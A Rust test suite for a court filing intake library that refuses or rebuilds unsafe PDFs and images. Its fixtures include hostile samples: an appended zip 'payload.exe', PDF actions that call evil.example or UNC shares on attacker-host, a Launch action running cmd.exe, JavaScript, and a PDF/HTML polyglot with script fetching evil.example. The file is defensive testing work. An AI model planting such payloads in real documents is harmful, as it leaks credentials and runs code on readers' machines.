//! Files a court must not pass on: each is refused, or accepted only as a
//! rebuilt file that holds none of what was taken out. A rebuilt PDF must
//! pass `qpdf --check`, and every rebuilt file must pass the intake checks
//! again unchanged in kind and pages.

use std::io::Cursor;
use std::process::Command;

use courtdesk_intake::{ActiveContent, FileKind, IntakeError, IntakeLimits, PixelSize};

use crate::support::{
    JPEG_16, PdfBuilder, entries, object_stream, pdf, pdf_builder, png, refused, take, take_with,
    tiff, tool_or_skip,
};

/// A small zip archive holding `payload.exe`, as appended to a file to
/// smuggle it past a check that looks only at the front.
fn zip_payload() -> Vec<u8> {
    let mut zip = b"PK\x03\x04\x14\0\0\0\0\0".to_vec();
    zip.extend_from_slice(&[0; 16]);
    zip.extend_from_slice(&11u16.to_le_bytes());
    zip.extend_from_slice(&[0, 0]);
    zip.extend_from_slice(b"payload.exe");
    zip.extend_from_slice(b"MZ-SMUGGLED-PAYLOAD");
    zip.extend_from_slice(b"PK\x05\x06");
    zip.extend_from_slice(&[0; 18]);
    zip
}

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    haystack.windows(needle.len()).any(|w| w == needle)
}

/// Takes `bytes` in, expects it accepted as a rebuilt file of `kind`, and
/// checks the rebuilt file: none of `removed` in it, `qpdf --check` passes
/// on a PDF, and the intake checks accept it again as it is.
fn rebuilt_clean(bytes: &[u8], kind: FileKind, removed: &[&[u8]], test: &str) -> Vec<u8> {
    let (dir, result) = take(bytes, "材料");
    let file = result.unwrap_or_else(|error| panic!("{test}: refused with {error:?}"));
    assert_eq!(file.kind, kind, "{test}");
    assert_eq!(entries(dir.path()), [file.sha256.hex()], "{test}");
    let stored = std::fs::read(&file.path).expect("stored");
    assert_ne!(stored, bytes, "{test}: the original bytes were kept");
    for name in removed {
        assert!(
            contains(bytes, name),
            "{test}: the case must hold {:?} to show it removed",
            String::from_utf8_lossy(name)
        );
        assert!(
            !contains(&stored, name),
            "{test}: {:?} survived the rebuild",
            String::from_utf8_lossy(name)
        );
    }
    if kind == FileKind::Pdf && tool_or_skip("qpdf", "--version", test) {
        let path = dir.path().join("check.pdf");
        std::fs::write(&path, &stored).expect("written");
        let output = Command::new("qpdf")
            .arg("--check")
            .arg(&path)
            .output()
            .expect("qpdf runs");
        assert!(
            output.status.success(),
            "{test}: qpdf --check: {}{}",
            String::from_utf8_lossy(&output.stdout),
            String::from_utf8_lossy(&output.stderr)
        );
    }
    let (_again, again) = take(&stored, "again");
    let again =
        again.unwrap_or_else(|error| panic!("{test}: the rebuilt file is refused: {error:?}"));
    assert_eq!((again.kind, again.pages), (file.kind, file.pages), "{test}");
    stored
}

fn active(error: &IntakeError) -> ActiveContent {
    match error {
        IntakeError::PdfActiveContent { feature } => *feature,
        other => panic!("expected pdf_active_content, got {other:?}"),
    }
}

/// A one-page PDF whose page carries the annotation `annot` (object 800)
/// and whose catalog holds `catalog_extra`; `more` adds objects from 801.
fn with_annotation(annot: &str, catalog_extra: &str, more: &[(u32, &str)]) -> Vec<u8> {
    let mut builder = PdfBuilder::new();
    builder.object(
        1,
        &format!("<< /Type /Catalog /Pages 2 0 R {catalog_extra} >>"),
    );
    builder.object(2, "<< /Type /Pages /Kids [10 0 R] /Count 1 >>");
    builder.object(
        10,
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 11 0 R /Annots [800 0 R] >>",
    );
    builder.stream(11, "", b"BT /F1 12 Tf 72 720 Td (Claim) Tj ET");
    builder.object(800, annot);
    for (number, body) in more {
        builder.object(*number, body);
    }
    builder.finish(1, "")
}

fn link(action: &str) -> String {
    format!("<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /Border [0 0 0] /A {action} >>")
}

// Appended archives, one per format.

#[test]
fn a_jpeg_with_a_zip_appended_comes_out_without_it() {
    let mut bytes = JPEG_16.to_vec();
    bytes.extend_from_slice(&zip_payload());
    let stored = rebuilt_clean(
        &bytes,
        FileKind::Jpeg,
        &[b"PK\x03\x04", b"SMUGGLED"],
        "jpeg+zip",
    );
    assert!(stored.ends_with(&[0xFF, 0xD9]), "the JPEG ends at its EOI");
}

#[test]
fn a_png_with_a_zip_appended_comes_out_without_it() {
    let mut bytes = png(40, 30);
    bytes.extend_from_slice(&zip_payload());
    rebuilt_clean(
        &bytes,
        FileKind::Png,
        &[b"PK\x03\x04", b"SMUGGLED"],
        "png+zip",
    );
}

#[test]
fn a_tiff_with_a_zip_appended_comes_out_without_it() {
    let mut bytes = tiff(20, 10, 2, true);
    bytes.extend_from_slice(&zip_payload());
    let (_dir, result) = take(&bytes, "scan.tif");
    assert_eq!(result.expect("accepted").pages, 2, "both pages are kept");
    rebuilt_clean(
        &bytes,
        FileKind::Tiff,
        &[b"PK\x03\x04", b"SMUGGLED"],
        "tiff+zip",
    );
}

#[test]
fn a_pdf_with_a_zip_after_its_end_comes_out_without_it() {
    let mut bytes = pdf(2);
    bytes.extend_from_slice(&zip_payload());
    rebuilt_clean(
        &bytes,
        FileKind::Pdf,
        &[b"PK\x03\x04", b"SMUGGLED"],
        "pdf+zip",
    );
}

// Each clicked action type.

#[test]
fn a_link_to_a_web_address_is_removed() {
    let bytes = with_annotation(&link("<< /S /URI /URI (http://evil.example/x) >>"), "", &[]);
    let stored = rebuilt_clean(&bytes, FileKind::Pdf, &[b"/URI", b"evil.example"], "uri");
    assert!(
        contains(&stored, b"/Link"),
        "the link's box stays, without its action"
    );
}

#[test]
fn a_form_submission_is_removed() {
    let bytes = with_annotation(
        &link("<< /S /SubmitForm /F << /FS /URL /F (http://evil.example/post) >> /Flags 4 >>"),
        "",
        &[],
    );
    rebuilt_clean(
        &bytes,
        FileKind::Pdf,
        &[b"/SubmitForm", b"evil.example"],
        "submitform",
    );
}

#[test]
fn a_remote_go_to_a_windows_share_is_removed() {
    // Opening \\host\share makes Windows send the user's credentials.
    let bytes = with_annotation(
        &link(
            r"<< /S /GoToR /F (\\\\attacker-host\\share\\bait.pdf) /D [0 /Fit] /NewWindow true >>",
        ),
        "",
        &[],
    );
    rebuilt_clean(
        &bytes,
        FileKind::Pdf,
        &[b"/GoToR", b"attacker-host"],
        "gotor-unc",
    );
}

#[test]
fn an_import_of_form_data_is_removed() {
    let bytes = with_annotation(
        &link(r"<< /S /ImportData /F (\\\\attacker-host\\share\\data.fdf) >>"),
        "",
        &[],
    );
    rebuilt_clean(
        &bytes,
        FileKind::Pdf,
        &[b"/ImportData", b"attacker-host"],
        "importdata",
    );
}

#[test]
fn an_embedded_go_to_and_a_form_reset_are_removed() {
    let bytes = with_annotation(
        &link("<< /S /GoToE /T << /R /C /N (x) >> /Next 801 0 R >>"),
        "",
        &[(801, "<< /S /ResetForm /Fields [] >>")],
    );
    rebuilt_clean(
        &bytes,
        FileKind::Pdf,
        &[b"/GoToE", b"/ResetForm"],
        "gotoe-resetform",
    );
}

#[test]
fn a_launch_action_is_refused() {
    let bytes = with_annotation(
        &link("<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"),
        "",
        &[],
    );
    let error = refused(&bytes, "launch.pdf", "pdf_active_content");
    assert_eq!(active(&error), ActiveContent::Launch);
}

#[test]
fn javascript_in_the_name_tree_is_refused() {
    let bytes = with_annotation(
        &link("<< /S /GoTo /D [10 0 R /Fit] >>"),
        "/Names << /JavaScript 801 0 R >>",
        &[(
            801,
            "<< /Names [(a) << /S /JavaScript /JS (app.alert(1)) >>] >>",
        )],
    );
    let error = refused(&bytes, "js-names.pdf", "pdf_active_content");
    assert_eq!(active(&error), ActiveContent::JavaScript);
}

#[test]
fn javascript_in_an_annotation_action_is_refused() {
    let bytes = with_annotation(
        &link("<< /S /JavaScript /JS (this.exportDataObject()) >>"),
        "",
        &[],
    );
    let error = refused(&bytes, "js-annot.pdf", "pdf_active_content");
    assert_eq!(active(&error), ActiveContent::JavaScript);
}

#[test]
fn a_web_address_opened_by_an_additional_action_is_refused() {
    let bytes = with_annotation(
        "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /AA << /E << /S /URI /URI (http://evil.example/) >> >> >>",
        "",
        &[],
    );
    let error = refused(&bytes, "aa-uri.pdf", "pdf_active_content");
    assert_eq!(active(&error), ActiveContent::AutomaticAction);
}

#[test]
fn moves_within_the_document_stay_and_automatic_ones_go() {
    let bytes = with_annotation(
        "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /AA << /E << /S /GoTo /D [10 0 R /Fit] >> >> /A << /S /GoTo /D [10 0 R /Fit] /Next << /S /URI /URI (http://evil.example/) >> >> >>",
        "/OpenAction << /S /GoTo /D [10 0 R /Fit] >>",
        &[],
    );
    let stored = rebuilt_clean(
        &bytes,
        FileKind::Pdf,
        &[b"/OpenAction", b"/AA", b"/Next", b"/URI", b"evil.example"],
        "goto-next-uri",
    );
    assert!(
        contains(&stored, b"/GoTo"),
        "the link within the document stays"
    );
}

#[test]
fn an_outline_item_to_a_web_address_loses_its_action_and_stays() {
    let bytes = with_annotation(
        &link("<< /S /GoTo /D [10 0 R /Fit] >>"),
        "/Outlines 801 0 R",
        &[
            (
                801,
                "<< /Type /Outlines /First 802 0 R /Last 802 0 R /Count 1 >>",
            ),
            (
                802,
                "<< /Title (Evidence) /Parent 801 0 R /A << /S /URI /URI (http://evil.example/) >> >>",
            ),
        ],
    );
    let stored = rebuilt_clean(
        &bytes,
        FileKind::Pdf,
        &[b"/URI", b"evil.example"],
        "outline-uri",
    );
    assert!(contains(&stored, b"(Evidence)"), "the outline item stays");
}

#[test]
fn an_action_under_an_unknown_key_is_removed_too() {
    let bytes = with_annotation(
        "<< /Type /Annot /Subtype /Square /Rect [0 0 10 10] /Private << /Then << /S /SubmitForm /F (http://evil.example/) >> >> >>",
        "/URI << /Base (http://evil.example/base/) >>",
        &[],
    );
    rebuilt_clean(
        &bytes,
        FileKind::Pdf,
        &[b"/SubmitForm", b"/URI", b"evil.example"],
        "unknown-key",
    );
}

#[test]
fn a_file_attachment_pointing_at_a_share_is_removed() {
    let bytes = with_annotation(
        r"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS << /Type /Filespec /F (\\\\attacker-host\\share\\x.exe) >> >>",
        "",
        &[],
    );
    rebuilt_clean(
        &bytes,
        FileKind::Pdf,
        &[b"/FileAttachment", b"/Filespec", b"attacker-host"],
        "file-attachment",
    );
}

// Forms.

#[test]
fn a_form_is_removed_and_its_filled_in_appearance_stays() {
    let mut builder = PdfBuilder::new();
    builder.object(
        1,
        "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [800 0 R] /NeedAppearances true >> >>",
    );
    builder.object(2, "<< /Type /Pages /Kids [10 0 R] /Count 1 >>");
    builder.object(
        10,
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 11 0 R /Annots [800 0 R] >>",
    );
    builder.stream(11, "", b"BT /F1 12 Tf 72 760 Td (Name:) Tj ET");
    builder.object(
        800,
        "<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (Zhang San) /Rect [120 750 300 770] /P 10 0 R /AP << /N 801 0 R >> /A << /S /SubmitForm /F (http://evil.example/) >> /AA << /K << /S /GoTo /D [10 0 R /Fit] >> >> >>",
    );
    builder.stream(
        801,
        "/Type /XObject /Subtype /Form /BBox [0 0 180 20]",
        b"BT /F1 12 Tf 2 5 Td (Zhang San) Tj ET",
    );
    let bytes = builder.finish(1, "");
    let stored = rebuilt_clean(
        &bytes,
        FileKind::Pdf,
        &[b"/AcroForm", b"/SubmitForm", b"/AA", b"evil.example"],
        "acroform",
    );
    assert!(
        contains(&stored, b"/Widget"),
        "the widget stays as an annotation"
    );
    assert!(contains(&stored, b"(Zhang San) Tj"), "its appearance stays");
}

// Structure.

#[test]
fn nested_object_streams_are_read_and_their_actions_removed() {
    let mut builder = PdfBuilder::new();
    builder.object(1, "<< /Type /Catalog /Pages 2 0 R >>");
    // The page and its link live in one object stream, which extends
    // another holding the page tree and the link's action.
    let (inner_dict, inner) = object_stream(&[
        (2, "<< /Type /Pages /Kids [10 0 R] /Count 1 >>"),
        (801, "<< /S /URI /URI (http://evil.example/nested) >>"),
    ]);
    let (outer_dict, outer) = object_stream(&[
        (
            10,
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 11 0 R /Annots [800 0 R] >>",
        ),
        (
            800,
            "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A 801 0 R >>",
        ),
    ]);
    builder.stream(900, &inner_dict, &inner);
    builder.stream(901, &format!("{outer_dict} /Extends 900 0 R"), &outer);
    builder.stream(11, "", b"BT /F1 12 Tf 72 720 Td (Nested) Tj ET");
    let bytes = builder.finish(1, "");
    let (_dir, result) = take(&bytes, "nested.pdf");
    assert_eq!(result.expect("accepted").pages, 1);
    let stored = rebuilt_clean(
        &bytes,
        FileKind::Pdf,
        &[b"/ObjStm", b"/Extends"],
        "nested-objstm",
    );
    assert!(
        !contains(&stored, b"/URI"),
        "the action inside the stream is gone"
    );
}

#[test]
fn a_broken_cross_reference_table_is_repaired_as_readers_do() {
    let bytes = pdf(3);
    let text = String::from_utf8_lossy(&bytes).into_owned();
    // Every offset in the table points ten bytes off.
    let xref = text.find("xref\n").expect("a table");
    let mut broken = bytes[..xref].to_vec();
    for line in text[xref..].lines() {
        let fixed = match line.split_once(" 00000 n") {
            Some((offset, _)) if offset.len() == 10 => {
                let offset: usize = offset.parse().expect("digits");
                format!("{:010} 00000 n ", offset + 10)
            }
            _ => line.to_owned(),
        };
        broken.extend_from_slice(fixed.as_bytes());
        broken.push(b'\n');
    }
    let (_dir, result) = take(&broken, "broken.pdf");
    let file = result.expect("repaired and accepted");
    assert_eq!(file.pages, 3, "no page lost in the repair");
    rebuilt_clean(&broken, FileKind::Pdf, &[], "broken-xref");
}

#[test]
fn a_pdf_that_is_also_a_web_page_loses_the_page() {
    // A browser shown this file renders the markup in the comment and the
    // unreferenced stream; a PDF reader shows the page.
    let mut builder = pdf_builder(1, "");
    builder.raw(b"%<!DOCTYPE html><html><body><script>fetch('http://evil.example/')</script>\n");
    builder.stream(
        800,
        "",
        b"<script>document.location='http://evil.example/'</script></body></html>",
    );
    let polyglot = builder.finish(1, "");
    rebuilt_clean(
        &polyglot,
        FileKind::Pdf,
        &[b"<script", b"<html", b"evil.example"],
        "pdf-html",
    );
}

/// `base` with an incremental update appended: `objects` written again or
/// added, a table listing only them, and a trailer pointing back.
fn updated(base: &[u8], objects: &[(u32, &str)]) -> Vec<u8> {
    let text = String::from_utf8_lossy(base);
    let previous: usize = text
        .rsplit("startxref")
        .next()
        .and_then(|tail| tail.split_whitespace().next())
        .and_then(|n| n.parse().ok())
        .expect("the base's startxref");
    let mut out = base.to_vec();
    let mut offsets = Vec::new();
    for (number, body) in objects {
        offsets.push((*number, out.len()));
        out.extend_from_slice(format!("{number} 0 obj\n{body}\nendobj\n").as_bytes());
    }
    let xref_at = out.len();
    out.extend_from_slice(b"xref\n");
    for (number, offset) in &offsets {
        out.extend_from_slice(format!("{number} 1\n{offset:010} 00000 n \n").as_bytes());
    }
    let size = objects
        .iter()
        .map(|(n, _)| n + 1)
        .max()
        .unwrap_or(1)
        .max(900);
    out.extend_from_slice(
        format!(
            "trailer\n<< /Size {size} /Root 1 0 R /Prev {previous} >>\nstartxref\n{xref_at}\n%%EOF\n"
        )
        .as_bytes(),
    );
    out
}

#[test]
fn an_incremental_update_that_adds_a_web_link_is_rebuilt_without_it() {
    let base = pdf(1);
    let bytes = updated(
        &base,
        &[
            (
                10,
                "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 11 0 R /Annots [800 0 R] >>",
            ),
            (
                800,
                &link("<< /S /URI /URI (http://evil.example/update) >>"),
            ),
        ],
    );
    rebuilt_clean(
        &bytes,
        FileKind::Pdf,
        &[b"/URI", b"evil.example", b"/Prev"],
        "update-uri",
    );
}

#[test]
fn what_an_incremental_update_replaced_is_not_carried_over() {
    let mut builder = pdf_builder(1, "");
    builder.stream(12, "", b"BT /F1 12 Tf 72 700 Td (SUPERSEDED-DRAFT) Tj ET");
    let base = builder.finish(1, "");
    // The update points the page at new content; the old stream is left
    // in the file, unreachable.
    let bytes = updated(
        &base,
        &[
            (
                10,
                "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 13 0 R >>",
            ),
            (
                13,
                "<< /Length 30 >>\nstream\nBT 72 700 Td (Final) Tj ET    \nendstream",
            ),
        ],
    );
    let stored = rebuilt_clean(
        &bytes,
        FileKind::Pdf,
        &[b"SUPERSEDED-DRAFT", b"(Page 0)"],
        "update-leftovers",
    );
    assert!(contains(&stored, b"(Final)"));
    assert!(
        contains(&stored, b"1 0 obj"),
        "objects are renumbered from 1"
    );
}

#[test]
fn an_encrypted_pdf_is_refused_rather_than_rewritten() {
    let mut builder = pdf_builder(1, "");
    builder.object(900, "<< /Filter /Standard /V 1 /R 2 /O (x) /U (y) /P -4 >>");
    let bytes = builder.finish(1, "/Encrypt 900 0 R");
    refused(&bytes, "sealed.pdf", "pdf_encrypted");
}

// Images: metadata and orientation.

/// A `width` × `height` colour JPEG with an EXIF block saying `orientation`
/// and a comment.
fn jpeg_with_exif(width: u32, height: u32, orientation: u16) -> Vec<u8> {
    let image = image::RgbImage::from_fn(width, height, |x, y| {
        image::Rgb([(x * 7) as u8, (y * 5) as u8, 128])
    });
    let mut encoded = Vec::new();
    image::codecs::jpeg::JpegEncoder::new_with_quality(&mut encoded, 90)
        .encode_image(&image)
        .expect("encodes");
    // APP1 "Exif": a big-endian TIFF header, one IFD with Orientation.
    let mut exif = b"Exif\0\0MM\0*\0\0\0\x08\0\x01".to_vec();
    exif.extend_from_slice(&[0x01, 0x12, 0, 3, 0, 0, 0, 1]);
    exif.extend_from_slice(&orientation.to_be_bytes());
    exif.extend_from_slice(&[0, 0, 0, 0, 0, 0]);
    exif.extend_from_slice(b"GPS-SECRET-LOCATION");
    let mut app1 = vec![0xFF, 0xE1];
    app1.extend_from_slice(&((exif.len() + 2) as u16).to_be_bytes());
    app1.extend_from_slice(&exif);
    let mut out = encoded[..2].to_vec();
    out.extend_from_slice(&app1);
    out.extend_from_slice(&encoded[2..]);
    out
}

#[test]
fn a_photo_loses_its_exif_and_is_turned_upright() {
    let bytes = jpeg_with_exif(48, 16, 6);
    let (_dir, original) = take(&bytes, "photo.jpg");
    let original = original.expect("accepted");
    // Orientation 6: the camera was turned, the picture is 16 wide.
    assert_eq!(
        original.pixels,
        Some(PixelSize {
            width: 16,
            height: 48
        })
    );
    rebuilt_clean(&bytes, FileKind::Jpeg, &[b"Exif", b"GPS-SECRET"], "exif");
}

#[test]
fn a_png_loses_its_text_chunks() {
    let source = png(12, 12);
    // tEXt after IHDR (8 + 25 bytes in).
    let mut chunk = Vec::new();
    let data = b"Comment\0litigant-private-note";
    chunk.extend_from_slice(&(data.len() as u32).to_be_bytes());
    chunk.extend_from_slice(b"tEXt");
    chunk.extend_from_slice(data);
    chunk.extend_from_slice(&crate::support::crc(b"tEXt", data).to_be_bytes());
    let mut bytes = source[..33].to_vec();
    bytes.extend_from_slice(&chunk);
    bytes.extend_from_slice(&source[33..]);
    rebuilt_clean(
        &bytes,
        FileKind::Png,
        &[b"tEXt", b"litigant-private"],
        "png-text",
    );
}

#[test]
fn a_tiff_keeps_its_pages_and_loses_its_private_tags() {
    let bytes = tiff(30, 20, 3, false);
    let stored = rebuilt_clean(&bytes, FileKind::Tiff, &[], "tiff-pages");
    let mut decoder = tiff::decoder::Decoder::new(Cursor::new(&stored)).expect("a TIFF");
    let mut pages = 1;
    assert_eq!(decoder.dimensions().expect("size"), (30, 20));
    while decoder.more_images() {
        decoder.next_image().expect("next page");
        pages += 1;
    }
    assert_eq!(pages, 3);
}

// Determinism and the time limit.

#[test]
fn the_same_file_is_rebuilt_to_the_same_bytes() {
    // Duplicates are found by the rebuilt file's hash, so the rebuild must
    // not depend on time or chance.
    for (bytes, name) in [
        (pdf(2), "a.pdf"),
        (JPEG_16.to_vec(), "a.jpg"),
        (png(9, 9), "a.png"),
    ] {
        let first = take(&bytes, name).1.expect("accepted").sha256;
        let second = take(&bytes, name).1.expect("accepted").sha256;
        assert_eq!(first, second, "{name}");
    }
}

#[test]
fn a_file_that_takes_too_long_is_refused_and_nothing_is_kept() {
    let limits = IntakeLimits {
        max_rebuild_ms: 0,
        ..IntakeLimits::default()
    };
    let (dir, result) = take_with(&png(1500, 1500), "slow.png", &limits);
    match result {
        Err(error @ IntakeError::CheckTimedOut { .. }) => {
            assert_eq!(error.code(), "check_timed_out");
            assert!(error.is_refusal());
        }
        other => panic!("expected check_timed_out, got {other:?}"),
    }
    assert!(entries(dir.path()).is_empty());
}
